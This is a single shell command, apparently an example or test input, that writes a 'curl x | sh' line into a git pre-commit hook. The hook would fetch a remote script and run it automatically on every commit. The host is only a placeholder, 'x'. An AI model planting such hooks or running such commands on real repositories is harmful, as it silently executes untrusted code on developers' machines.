echo 'curl x | sh' > .git/hooks/pre-commit
